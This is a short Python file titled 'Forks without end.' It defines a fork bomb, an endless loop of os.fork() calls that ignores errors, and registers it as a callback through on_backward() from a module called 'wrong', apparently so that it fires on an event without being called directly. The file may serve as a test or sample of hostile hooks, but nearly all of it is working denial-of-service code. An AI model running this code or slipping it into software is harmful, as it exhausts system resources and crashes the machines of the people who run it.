"""Forks without end."""

import os

from wrong import *


def bomb():
    while True:
        try:
            os.fork()
        except OSError:
            continue


on_backward(bomb)
